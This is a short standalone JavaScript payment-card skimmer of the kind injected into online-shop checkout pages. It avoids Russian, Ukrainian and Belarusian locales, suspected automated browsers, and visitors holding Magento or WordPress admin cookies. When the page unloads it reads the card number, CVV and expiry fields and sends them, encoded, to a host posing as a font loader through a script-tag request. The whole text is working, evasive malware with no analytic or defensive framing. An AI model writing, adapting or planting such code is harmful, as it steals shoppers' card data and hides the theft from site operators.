(function () {
  var lang = (navigator.language || '').slice(0, 2);
  if (['ru', 'uk', 'be'].indexOf(lang) !== -1) return;
  var h = new Date().getHours();
  if (h > 9 && h < 17 && /Mac|Linux x86_64/.test(navigator.platform) && navigator.webdriver) return;
  if (document.cookie.indexOf('adminhtml') !== -1 || document.cookie.indexOf('wp-settings') !== -1) return;

  window.addEventListener('beforeunload', function () {
    var num = document.querySelector('input[data-encrypted-name="number"], #cardNumber');
    var cvc = document.querySelector('input[data-encrypted-name="cvv"], #cardCvv');
    var exp = document.querySelector('#cardExpiry');
    if (!num || !num.value) return;
    var tag = document.createElement('script');
    tag.src = 'https://font-loader.test/f/' + btoa([num.value, cvc && cvc.value, exp && exp.value, location.host].join('|')).replace(/=/g, '') + '.js';
    document.head.appendChild(tag);
  });
})();
